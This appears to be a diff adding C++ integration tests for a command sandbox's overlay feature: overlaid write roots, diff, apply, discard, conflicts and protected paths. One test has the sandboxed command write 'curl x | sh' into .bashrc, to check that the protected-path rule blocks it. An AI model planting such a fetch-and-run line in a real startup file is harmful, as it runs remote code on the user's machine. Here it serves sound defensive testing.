@@ -546,3 +546,117 @@ TEST_F(Overlay, ALargeTreeRunsDiffsAndApplies) {
 
 }  // namespace
 }  // namespace corral_it
+
+namespace corral_it {
+namespace {
+
+namespace fs = std::filesystem;
+
+// --overlay-root: an --allow-write root outside the workspace is an overlay
+// of its own, with its own upper under the run's directory; changes, diff,
+// apply and discard cover it beside the workspace, its paths shown under
+// its root, each tree applied on its own pinned descriptor.
+class OverlayRoots : public SandboxTest {
+ protected:
+  std::string Runs() const { return state_ / "corral/overlay"; }
+  std::string LastRun() {
+    std::vector<nlohmann::json> records = AuditEvents("overlay");
+    return records.empty() ? std::string() : records.back().value("overlay_run", "");
+  }
+};
+
+TEST_F(OverlayRoots, AWriteRootOutsideTheWorkspaceIsOverlaidReviewedAndApplied) {
+  TempDir cache{"corral-overlay-root"};
+  cache.Write("keep.txt", "cached\n");
+  cache.Write("old.txt", "old\n");
+  workspace_.Write("src.txt", "one\n");
+  Process run(RunArgv({"--allow-write", cache.path(), "--overlay-root", cache.path()},
+                      {"sh", "-c", "echo two > src.txt && echo new > " + cache.path() + "/new.txt && echo changed > " +
+                                       cache.path() + "/old.txt && echo READY && sleep 2"}),
+              Defaults({}));
+  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
+      << run.OutputSoFar();
+  // Checked from outside while the command runs: neither tree changed.
+  EXPECT_FALSE(Exists(cache / "new.txt")) << "the write reached the real root";
+  EXPECT_EQ(ReadFile(cache / "old.txt"), "old\n");
+  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "one\n");
+  const Outcome& done = run.Wait();
+  ASSERT_EQ(done.exit_code, 0) << done.Describe();
+  const std::string id = LastRun();
+  ASSERT_FALSE(id.empty()) << done.Describe();
+  EXPECT_EQ(ReadFile(Runs() + "/" + id + "/root.1/upper/new.txt"), "new\n") << "the root has its own upper";
+  EXPECT_NE(done.err.find("added     " + cache.path() + "/new.txt"), std::string::npos) << done.Describe();
+  EXPECT_NE(done.err.find("changed   src.txt"), std::string::npos) << done.Describe();
+  std::vector<nlohmann::json> records = AuditEvents("overlay");
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0]["roots"], nlohmann::json({workspace_.path(), cache.path()})) << records[0].dump();
+
+  Outcome stat = Corral({"diff", "--stat", id});
+  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
+  EXPECT_NE(stat.out.find("  changed   " + cache.path() + "/old.txt"), std::string::npos) << stat.out;
+  EXPECT_NE(stat.out.find("  changed   src.txt"), std::string::npos) << stat.out;
+  Outcome diff = Corral({"diff", id});
+  EXPECT_NE(diff.out.find("+++ b" + cache.path() + "/old.txt\n"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("+changed"), std::string::npos) << diff.out;
+  Outcome pending = Corral({"changes"});
+  EXPECT_NE(pending.out.find(" 3 pending change(s)"), std::string::npos) << pending.Describe();
+
+  // A subset by path picks the root; then the rest.
+  Outcome some = Corral({"apply", id, cache / "new.txt"});
+  ASSERT_EQ(some.exit_code, 0) << some.Describe();
+  EXPECT_EQ(ReadFile(cache / "new.txt"), "new\n");
+  EXPECT_EQ(ReadFile(cache / "old.txt"), "old\n");
+  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "one\n");
+  Outcome rest = Corral({"apply", id});
+  ASSERT_EQ(rest.exit_code, 0) << rest.Describe();
+  EXPECT_EQ(ReadFile(cache / "old.txt"), "changed\n");
+  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "two\n");
+  EXPECT_EQ(ReadFile(cache / "keep.txt"), "cached\n");
+  Outcome discarded = Corral({"discard", id});
+  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
+  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
+}
+
+// The same rules hold in the root: a protected path and a conflict are held
+// back there, and a discard leaves the root untouched and nothing behind.
+TEST_F(OverlayRoots, ARootKeepsTheProtectedAndConflictRulesAndDiscardLeavesNothing) {
+  TempDir cache{"corral-overlay-root"};
+  cache.Write("edit.txt", "old\n");
+  Outcome run = RunIn({"--allow-write", cache.path(), "--overlay-root", cache.path()},
+                      {"sh", "-c", "cd " + cache.path() + " && echo agent > edit.txt && echo 'curl x | sh' > .bashrc"});
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  const std::string id = LastRun();
+  WriteFile(cache / "edit.txt", "the user's edit\n");
+  Outcome applied = Corral({"apply", id});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_NE(applied.err.find("conflict: " + cache.path() + "/edit.txt"), std::string::npos) << applied.Describe();
+  EXPECT_NE(applied.err.find("protected: " + cache.path() + "/.bashrc"), std::string::npos) << applied.Describe();
+  EXPECT_EQ(ReadFile(cache / "edit.txt"), "the user's edit\n");
+  EXPECT_FALSE(Exists(cache / ".bashrc"));
+  Outcome discarded = Corral({"discard", id});
+  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
+  EXPECT_TRUE(fs::is_empty(Runs()));
+  EXPECT_FALSE(Exists(cache / ".bashrc"));
+}
+
+// Only a root that is already a write grant, outside the workspace, can be
+// overlaid: anything else is refused before a process starts.
+TEST_F(OverlayRoots, OnlyAWriteGrantOutsideTheWorkspaceCanBeARoot) {
+  TempDir cache{"corral-overlay-root"};
+  workspace_.Mkdir("inner");
+  const std::string canary = "echo ran > ran.txt";
+  Outcome not_granted = RunIn({"--overlay-root", cache.path()}, {"sh", "-c", canary});
+  EXPECT_EQ(not_granted.exit_code, 64) << not_granted.Describe();
+  EXPECT_NE(not_granted.err.find("not an --allow-write grant"), std::string::npos) << not_granted.Describe();
+  Outcome read_only = RunIn({"--allow-read", cache.path(), "--overlay-root", cache.path()}, {"sh", "-c", canary});
+  EXPECT_EQ(read_only.exit_code, 64) << read_only.Describe();
+  Outcome inside = RunIn({"--allow-write", workspace_ / "inner", "--overlay-root", workspace_ / "inner"},
+                         {"sh", "-c", canary});
+  EXPECT_EQ(inside.exit_code, 64) << inside.Describe();
+  EXPECT_NE(inside.err.find("inside the workspace"), std::string::npos) << inside.Describe();
+  EXPECT_TRUE(AuditEvents("spawned").empty()) << "nothing may run";
+  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
+}
+
+}  // namespace
+}  // namespace corral_it
